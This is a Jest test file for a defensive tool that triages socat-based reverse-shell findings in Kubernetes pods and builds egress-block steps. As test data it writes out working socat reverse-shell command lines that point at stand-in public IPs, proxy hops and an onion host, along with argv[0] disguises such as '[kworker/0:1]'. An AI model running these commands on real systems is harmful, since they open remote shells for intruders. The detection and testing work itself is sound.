/**
 * Issue 13's "Why" bullets about the C2 (items 1–3), end to end through the
 * offline analysis (lib/report/analyze.ts) on the public-shaped v2 fixture:
 * argv[0] is the attacker's, proxies, A!!B, which process is socat, ports
 * and localhost. Each failed before the parser followed socat.
 */
import { describe, expect, it } from '@jest/globals';
import { parseNotification } from '../../lib/finding/parse.js';
import type { PodSection } from '../../lib/gather/sections.js';
import { analyzeFinding, OFFLINE, type Gathered } from '../../lib/report/analyze.js';
import type { TriagedReport } from '../../lib/report/types.js';
import { notificationFixture } from '../support/fixtures.js';

const PUBLIC_PROXY = '34.117.59.81';

/** The v2 fixture with socat's argv (and optionally its process list) replaced. */
function reportFor(args: string[], gathered: Gathered = OFFLINE, processes?: (base: Record<string, any>[]) => Record<string, any>[]): TriagedReport {
  const n = notificationFixture('socat-v2');
  const list = n.finding.processes as Record<string, any>[];
  list[1]!.args = args;
  if (processes) n.finding.processes = processes(list);
  return analyzeFinding(parseNotification(n), gathered);
}

/** Gathered facts with the pod read from the cluster, so the policy steps can select it. */
function withPod(): Gathered {
  const pod: PodSection = {
    source: 'kubernetes',
    namespace: 'shop',
    name: 'checkout-7d9fb6c5d4-x2lqp',
    phase: 'Running',
    startTime: '2026-11-27T00:00:00Z',
    labels: { app: 'checkout', 'pod-template-hash': '7d9fb6c5d4' },
    annotations: {},
    serviceAccount: 'checkout',
    node: 'gke-shop-prod-default-pool-3f2a9c1e-k8vz',
    containers: [{ name: 'checkout', image: 'us-docker.pkg.dev/shop-prod-4711/apps/checkout:1.14.2', imageDigest: null, restartCount: 0, ready: true }],
    redFlags: [],
    owners: [],
    consoleUrl: null,
  };
  return { sections: { pod }, gaps: OFFLINE.gaps.filter((g) => g.section !== 'pod') };
}

function signals(r: TriagedReport): string[] {
  return r.verdict.reasons.map((x) => x.signal);
}

function blockStep(r: TriagedReport) {
  return r.runbook.steps.find((s) => s.id === 'block_c2_egress');
}

describe('argv[0] is the attacker\'s', () => {
  const baseline = reportFor(['socat', 'TCP:8.8.8.8:4444', 'EXEC:/bin/bash,pty,stderr,setsid,sigint,sane']);

  it.each(['[kworker/0:1]', 'sh', 'socat1', '/tmp/.x/kworker', ''])('argv[0] %p: the same reverse shell and the same score as socat', (argv0) => {
    const r = reportFor([argv0, 'TCP:8.8.8.8:4444', 'EXEC:/bin/bash,pty,stderr,setsid,sigint,sane']);
    expect(r.c2).toMatchObject({ role: 'reverse', host: '8.8.8.8', port: 4444, program: '/bin/bash', pty: true, scope: 'public' });
    expect(r.verdict.score).toBe(baseline.verdict.score);
    expect(signals(r)).toEqual(expect.arrayContaining(['public_c2', 'reverse_shell', 'pty_shell']));
  });

  it.each<[string, string[], Record<string, unknown>]>([
    ['SOCKET-CONNECT with a hex socket address', ['x', 'SOCKET-CONNECT:2:6:x115c08080808', 'EXEC:sh'], { role: 'reverse', transport: 'tcp', host: '8.8.8.8', port: 4444 }],
    ['FD:3 inherited from the parent', ['x', 'FD:3', 'EXEC:/bin/sh'], { role: 'reverse', transport: 'other', host: null }],
    ['a socat chained inside EXEC', ['x', "EXEC:'socat - TCP:8.8.8.8:4444'", 'EXEC:sh'], { role: 'reverse', host: '8.8.8.8', port: 4444, program: 'sh' }],
  ])('%s is a reverse shell, not unknown', (_name, argv, expected) => {
    const r = reportFor(argv);
    expect(r.c2).toMatchObject(expected);
    expect(signals(r)).toContain('reverse_shell');
  });

  it('an argv socat refuses is not a confident C2: role unknown, the reason, no destination scored, no block', () => {
    const r = reportFor(['socat', 'TCP:8.8.8.8:4444,nosuchoption', 'EXEC:sh'], withPod());
    expect(r.c2.role).toBe('unknown');
    expect(r.c2.refused).toMatch(/option/);
    expect(signals(r)).not.toContain('public_c2');
    expect(r.verdict.unavailable.join('\n')).toMatch(/c2_scope: socat would refuse/);
    expect(blockStep(r)?.command).toBeNull();
  });
});

describe('proxies: the hop the pod connects to', () => {
  it('SOCKS4A through a remote proxy to its 127.0.0.1: the proxy is scored and blocked, the target named', () => {
    const r = reportFor(['socat', `SOCKS4A:${PUBLIC_PROXY}:127.0.0.1:4444,socksport=1080`, 'EXEC:/bin/bash,pty'], withPod());
    expect(r.c2).toMatchObject({ host: '127.0.0.1', port: 4444, hop: { host: PUBLIC_PROXY, port: 1080 }, hopScope: 'public' });
    expect(signals(r)).toContain('public_c2');
    expect(signals(r)).not.toContain('loopback_c2');
    const where = r.verdict.reasons.find((x) => x.signal === 'public_c2')?.detail ?? '';
    expect(where).toContain(`${PUBLIC_PROXY}:1080`);
    expect(where).toContain('127.0.0.1:4444');
    const step = blockStep(r);
    expect(step?.command).toContain(`${PUBLIC_PROXY}/32`);
    expect(step?.command).not.toContain('127.0.0.1/32');
    expect(step?.note).toMatch(/proxy/);
  });

  it('PROXY without proxyport= goes to socat\'s default port 8080', () => {
    expect(reportFor(['socat', `PROXY:${PUBLIC_PROXY}:c2.example.com:443`, 'EXEC:sh']).c2.hop).toEqual({ host: PUBLIC_PROXY, port: 8080, ipVersion: 4 });
  });

  it('a proxy inside the pod (Tor): the target is judged, and the block step points to isolation', () => {
    const r = reportFor(['socat', 'SOCKS4A:127.0.0.1:abcdefghijklmnop.onion:4444,socksport=9050', 'EXEC:/bin/bash'], withPod());
    expect(r.c2).toMatchObject({ host: 'abcdefghijklmnop.onion', hop: { host: '127.0.0.1', port: 9050 }, hopScope: 'loopback', scope: 'hostname' });
    expect(signals(r)).toContain('hostname_c2');
    expect(r.verdict.reasons.find((x) => x.signal === 'hostname_c2')?.detail).toMatch(/proxy inside the pod.*an IP block cannot cut it/);
    const step = blockStep(r);
    expect(step?.command).toBeNull();
    expect(step?.note).toMatch(/inside the pod.*cannot cut it.*block_all_egress/);
  });
});

describe('A!!B dual addresses', () => {
  it('names both connections and blocks both', () => {
    const r = reportFor(['socat', 'TCP:8.8.8.8:4444!!TCP:9.9.9.9:5555', 'EXEC:sh'], withPod());
    expect(r.c2.peers?.map((p) => `${p.host}:${p.port}`)).toEqual(['8.8.8.8:4444', '9.9.9.9:5555']);
    expect(r.verdict.reasons.find((x) => x.signal === 'public_c2')?.detail).toContain('9.9.9.9:5555');
    const step = blockStep(r);
    expect(step?.command).toContain('8.8.8.8/32');
    expect(step?.command).toContain('9.9.9.9/32');
  });
});

describe('which process is socat', () => {
  it('a socat-named ancestor listed first is not the finding\'s process', () => {
    const r = reportFor(['socat', 'TCP:8.8.8.8:4444', 'EXEC:/bin/bash,pty'], OFFLINE, (base) => [
      // An ancestor calling itself socat (its argv and name are its own to choose), listed first.
      { name: 'socat', binary: { path: '/usr/bin/socat' }, args: ['socat', 'TCP-LISTEN:8080,fork', 'TCP:10.0.0.5:80'], pid: '4000', parentPid: '1' },
      { ...base[0], parentPid: '4000' },
      { ...base[1], binary: { path: '/tmp/.x/socat' } },
    ]);
    expect(r.process.binary).toBe('/tmp/.x/socat');
    expect(r.c2).toMatchObject({ role: 'reverse', host: '8.8.8.8' });
    expect(signals(r)).toContain('dropped_binary');
  });
});

describe('ports and names as socat reads them', () => {
  it.each<[string, number]>([['04444', 2340], ['70000', 4464], ['www', 80]])('port %p is %p', (port, expected) => {
    expect(reportFor(['socat', `TCP:8.8.8.8:${port}`, 'EXEC:sh']).c2.port).toBe(expected);
  });

  it.each(['localhost', 'localhost.'])('%p is a name the container resolves, not loopback', (host) => {
    const r = reportFor(['socat', `TCP:${host}:4444`, 'EXEC:sh']);
    expect(r.c2.scope).toBe('hostname');
    expect(signals(r)).not.toContain('loopback_c2');
  });
});
